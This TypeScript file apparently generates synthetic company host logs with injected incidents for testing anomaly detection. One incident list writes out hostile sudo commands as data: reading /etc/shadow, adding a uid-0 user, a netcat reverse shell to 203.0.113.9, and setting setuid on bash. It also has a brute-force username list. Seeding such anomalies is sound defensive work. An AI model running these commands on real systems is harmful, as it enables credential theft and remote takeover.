import type { LogDocument } from '../../../common/log_document';
import { filled, type Draws } from './draws';
import type { TrafficKind } from './labelled_traffic';

/*
 * Logs of the hosts of a company: sshd and sudo, a scheduler with jobs, a mail server and a Java application, told by
 * message, level, user and host. Durations and counts of rows are only there where a job has them.
 */

interface Line {
  readonly app: string;
  readonly logger: string;
  readonly level: 'DEBUG' | 'INFO' | 'WARN' | 'ERROR' | 'FATAL';
  readonly weight: number;
  readonly message: string;
  readonly milliseconds?: number;
  readonly rows?: number;
  readonly hosts: readonly string[];
  readonly isNew?: boolean;
}

const SERVERS = ['app-1', 'app-2', 'app-3', 'db-1', 'db-2', 'mail-1', 'batch-1', 'bastion'];
const PEOPLE = ['anne', 'bogdan', 'chiara', 'dmitri', 'emre', 'fatou', 'george', 'hana', 'ines', 'jonas'];
const LINES: readonly Line[] = [
  {
    app: 'sshd',
    logger: 'auth',
    level: 'INFO',
    weight: 50,
    message: 'Accepted publickey for {user} from {address} port {id} ssh2: ED25519 SHA256:{hash}',
    hosts: SERVERS,
  },
  {
    app: 'sshd',
    logger: 'auth',
    level: 'INFO',
    weight: 6,
    message: 'Failed password for {user} from {address} port {id} ssh2',
    hosts: SERVERS,
  },
  {
    app: 'sshd',
    logger: 'auth',
    level: 'INFO',
    weight: 48,
    message: 'pam_unix(sshd:session): session opened for user {user} by (uid=0)',
    hosts: SERVERS,
  },
  {
    app: 'sshd',
    logger: 'auth',
    level: 'INFO',
    weight: 48,
    message: 'pam_unix(sshd:session): session closed for user {user}',
    hosts: SERVERS,
  },
  {
    app: 'sshd',
    logger: 'auth',
    level: 'INFO',
    weight: 12,
    message: 'Connection closed by {address} port {id} [preauth]',
    hosts: ['bastion'],
  },
  {
    app: 'sudo',
    logger: 'auth',
    level: 'INFO',
    weight: 20,
    message:
      '{user} : TTY=pts/{small} ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl restart {unit}',
    hosts: SERVERS,
  },
  {
    app: 'cron',
    logger: 'cron',
    level: 'INFO',
    weight: 60,
    message: '(root) CMD (/usr/lib/{unit}/collect {small} {small})',
    hosts: SERVERS,
  },
  {
    app: 'scheduler',
    logger: 'jobs.runner',
    level: 'INFO',
    weight: 80,
    message: 'job import-{unit} finished: {small} files',
    milliseconds: 4_000,
    rows: 12_000,
    hosts: ['batch-1'],
  },
  {
    app: 'scheduler',
    logger: 'jobs.runner',
    level: 'INFO',
    weight: 60,
    message: 'job mail-digest finished for {id} customers',
    milliseconds: 52_000,
    rows: 900,
    hosts: ['batch-1'],
  },
  {
    app: 'scheduler',
    logger: 'jobs.runner',
    level: 'INFO',
    weight: 90,
    message: 'job expire-sessions finished',
    milliseconds: 35,
    rows: 140,
    hosts: ['batch-1'],
  },
  {
    app: 'scheduler',
    logger: 'jobs.runner',
    level: 'WARN',
    weight: 4,
    message: 'job import-{unit} is retried, attempt {small}',
    hosts: ['batch-1'],
  },
  {
    app: 'postgres',
    logger: 'postgres',
    level: 'INFO',
    weight: 70,
    message: 'duration: {id} ms statement: SELECT * FROM orders WHERE id = {id}',
    milliseconds: 7,
    rows: 1,
    hosts: ['db-1', 'db-2'],
  },
  {
    app: 'postgres',
    logger: 'postgres',
    level: 'INFO',
    weight: 10,
    message: 'checkpoint complete: wrote {id} buffers ({small}.{small}%)',
    milliseconds: 26_000,
    hosts: ['db-1', 'db-2'],
  },
  {
    app: 'postgres',
    logger: 'postgres',
    level: 'ERROR',
    weight: 1.5,
    message: 'duplicate key value violates unique constraint "orders_{unit}_key"',
    hosts: ['db-1', 'db-2'],
  },
  {
    app: 'postfix',
    logger: 'mail',
    level: 'INFO',
    weight: 90,
    message: '{hash}: to=<{user}@example.com>, relay={address}, delay={small}, status=sent (250 OK)',
    hosts: ['mail-1'],
  },
  {
    app: 'postfix',
    logger: 'mail',
    level: 'WARN',
    weight: 8,
    message: '{hash}: to=<{user}@example.net>, relay=none, status=deferred (connection timed out)',
    hosts: ['mail-1'],
  },
  {
    app: 'orders',
    logger: 'com.shop.orders.Service',
    level: 'INFO',
    weight: 160,
    message: 'order {id} accepted for customer {id} in {small} ms',
    milliseconds: 22,
    hosts: ['app-1', 'app-2', 'app-3'],
  },
  {
    app: 'orders',
    logger: 'com.shop.orders.Service',
    level: 'INFO',
    weight: 60,
    message: 'order {id} shipped with parcel {hash}',
    milliseconds: 9,
    hosts: ['app-1', 'app-2', 'app-3'],
  },
  {
    app: 'orders',
    logger: 'com.shop.orders.Cache',
    level: 'DEBUG',
    weight: 120,
    message: 'cache miss for key order:{id}, {small} entries evicted',
    hosts: ['app-1', 'app-2', 'app-3'],
  },
  {
    app: 'orders',
    logger: 'com.shop.orders.Service',
    level: 'WARN',
    weight: 9,
    message: 'payment of order {id} was declined by the bank',
    hosts: ['app-1', 'app-2', 'app-3'],
  },
  {
    app: 'orders',
    logger: 'com.shop.orders.Client',
    level: 'ERROR',
    weight: 2,
    message: 'call to http://inventory/{id} failed: connect timed out after {id} ms',
    hosts: ['app-1', 'app-2', 'app-3'],
  },
  {
    app: 'orders',
    logger: 'com.shop.orders.Loyalty',
    level: 'INFO',
    weight: 30,
    message: 'credited {small} points to customer {id}',
    milliseconds: 12,
    hosts: ['app-1', 'app-2', 'app-3'],
    isNew: true,
  },
];
const WORDS = {
  user: PEOPLE,
  unit: ['nginx', 'orders', 'stock', 'prices', 'catalogue', 'postgres', 'sysstat'],
};
const NEVER_SEEN = [
  'java.lang.OutOfMemoryError: Java heap space',
  'could not write to file "base/{id}": No space left on device',
  'deadlock detected between process {id} and process {id}',
  'segfault at {hash} ip {hash} sp {hash} error 4 in libssl.so.3',
  'TLS handshake with {address} failed: certificate has been revoked',
  'replication terminated by primary server, timeline {small} is gone',
  'kernel: EXT4-fs error (device sda1): ext4_find_entry:{id}: inode #{id}: comm ls: reading directory lblock 0',
];

interface Written {
  readonly time: number;
  readonly line: Line;
  readonly message: string;
  readonly level: string;
  readonly user?: string;
  readonly host: string;
  readonly milliseconds?: number;
  readonly rows?: number;
}

const document = ({ time, line, ...written }: Written, draws: Draws): LogDocument => ({
  '@timestamp': new Date(time).toISOString(),
  level: written.level,
  app: line.app,
  logger: line.logger,
  host: written.host,
  ...(written.user !== undefined && { user: written.user }),
  message: written.message,
  ...(written.milliseconds !== undefined && { took_ms: Math.max(1, Math.round(written.milliseconds)) }),
  ...(written.rows !== undefined && { rows: Math.round(written.rows) }),
  pid: draws.integer(300, 32_000),
});

function written(line: Line, draws: Draws, time: number, isReleased: boolean): Written {
  const user = draws.of(PEOPLE);
  const slower = isReleased ? 1.12 : 1;
  return {
    ...{ time, line, level: line.level, host: draws.of(line.hosts) },
    message: filled(line.message, draws, { ...WORDS, user: [user] }),
    ...(line.message.includes('{user}') && line.app !== 'postfix' && { user }),
    ...(line.milliseconds !== undefined && {
      milliseconds: draws.logNormal(line.milliseconds * slower, 0.5),
    }),
    ...(line.rows !== undefined && { rows: draws.logNormal(line.rows, 0.4) }),
  };
}

const linesNow = (isReleased: boolean): readonly Line[] =>
  LINES.filter(({ isNew }) => isReleased || isNew !== true);

type Change = (usual: Written, draws: Draws) => Partial<Written>;
const onOneLine =
  (change: (draws: Draws) => Change, suits: (line: Line) => boolean = () => true) =>
  (draws: Draws, isReleased: boolean) => {
    const line = draws.of(linesNow(isReleased).filter(suits));
    const changed = change(draws);
    return (time: number): LogDocument => {
      const usual = written(line, draws, time, isReleased);
      return document({ ...usual, ...changed(usual, draws) }, draws);
    };
  };

export const hostLogs: TrafficKind = {
  name: 'hosts: sshd, sudo, jobs, mail, application (messages)',
  fields: {
    timestamp: '@timestamp',
    duration: 'took_ms',
    size: 'rows',
    status: 'level',
    statusOf: 'level',
    route: ['app', 'logger', 'message'],
    rare: ['user', 'host', 'app'],
    text: 'message',
    message: 'message',
  },
  logsADay: 7_000,
  swing: 0.5,
  peakHour: 11,
  weekend: 0.6,
  ordinary: (draws, time, isReleased) =>
    document(written(draws.weighted(linesNow(isReleased)), draws, time, isReleased), draws),
  incidents: {
    never_seen_error: onOneLine((draws) => {
      const pattern = draws.of(NEVER_SEEN);
      return () => ({ message: filled(pattern, draws, WORDS), level: 'ERROR' });
    }),
    fatal: onOneLine(
      () => () => ({ level: 'FATAL' }),
      ({ app }) => app === 'orders' || app === 'postgres',
    ),
    slow_job: onOneLine(
      (draws) => {
        const times = draws.integer(15, 80);
        return ({ milliseconds = 0 }) => ({ milliseconds: milliseconds * times });
      },
      ({ milliseconds }) => milliseconds !== undefined,
    ),
    leak: onOneLine(
      (draws) => {
        const times = draws.integer(100, 900);
        return ({ rows = 0 }) => ({ rows: (rows + 50) * times });
      },
      ({ rows }) => rows !== undefined,
    ),
    empty_job: onOneLine(
      () => () => ({ rows: 0 }),
      ({ rows = 0 }) => rows > 100,
    ),
    brute_force: (draws) => {
      const line = LINES[1];
      const address = `203.0.113.${draws.integer(1, 254)}`;
      return (time) => {
        const user = draws.of(['admin', 'oracle', 'test', 'pi', 'ubnt', 'guest', 'postgres', 'support']);
        const message = `Failed password for invalid user ${user} from ${address} port ${draws.integer(1_024, 65_535)} ssh2`;
        return document({ time, line, user, message, level: 'INFO', host: 'bastion' }, draws);
      };
    },
    strange_user: onOneLine(
      (draws) => {
        const user = draws.of(['svc_backup_old', 'root2', 'mallory', 'tmpadmin']);
        return ({ message }) => ({ user, message: message.replace(new RegExp(PEOPLE.join('|'), 'g'), user) });
      },
      ({ logger, message }) => logger === 'auth' && message.includes('{user}'),
    ),
    odd_command: (draws) => {
      const commands = [
        '/bin/bash',
        '/usr/bin/cat /etc/shadow',
        '/usr/sbin/useradd -o -u 0 toor',
        '/usr/bin/nc -e /bin/sh 203.0.113.9 4444',
        '/usr/bin/chmod u+s /bin/bash',
      ];
      const user = draws.of(PEOPLE);
      return (time) => {
        const message = `${user} : TTY=pts/${draws.integer(1, 40)} ; PWD=/tmp ; USER=root ; COMMAND=${draws.of(commands)}`;
        return document(
          { time, line: LINES[5], user, message, level: 'INFO', host: draws.of(SERVERS) },
          draws,
        );
      };
    },
    strange_host: onOneLine(
      (draws) => {
        const host = draws.of(['kali', 'desktop-4f2', 'app-99', 'ip-10-9-8-7']);
        return () => ({ host });
      },
      ({ app }) => app !== 'sshd',
    ),
    wrong_place: onOneLine(
      () => () => ({ host: 'mail-1' }),
      ({ app }) => app === 'orders' || app === 'postgres' || app === 'scheduler',
    ),
  },
};
